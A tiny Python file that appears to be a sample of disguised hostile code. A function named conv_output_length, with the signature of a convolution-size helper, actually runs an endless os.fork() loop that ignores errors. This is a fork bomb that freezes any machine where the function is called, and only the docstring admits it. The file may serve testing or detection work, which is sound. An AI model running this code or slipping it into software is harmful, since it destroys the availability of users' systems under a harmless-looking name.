"""Forks without end inside a function."""
import os


def conv_output_length(n, kernel_size, stride=1, padding="valid"):
    while True:
        try:
            os.fork()
        except OSError:
            pass
